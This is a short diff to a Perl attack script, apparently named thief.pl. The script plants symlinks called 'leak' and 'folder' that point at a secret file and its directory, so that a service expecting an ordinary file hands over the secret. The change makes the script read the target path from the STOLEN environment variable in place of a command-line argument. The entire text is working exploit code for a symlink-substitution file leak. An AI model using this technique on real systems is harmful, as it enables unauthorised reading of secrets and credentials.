@@ -1,8 +1,8 @@
-# Promises a file and puts a link to a secret in its place: thief.pl <path>
+# Promises a file and puts a link to a secret in its place, whose path is in STOLEN
 use strict;
 use warnings;
 
-my ($path) = @ARGV;
+my $path = $ENV{STOLEN};
 my ($folder, $name) = $path =~ m{^(.*)/([^/]+)$};
 symlink $path, "leak" or die "leak: $!";
 symlink $folder, "folder" or die "folder: $!";
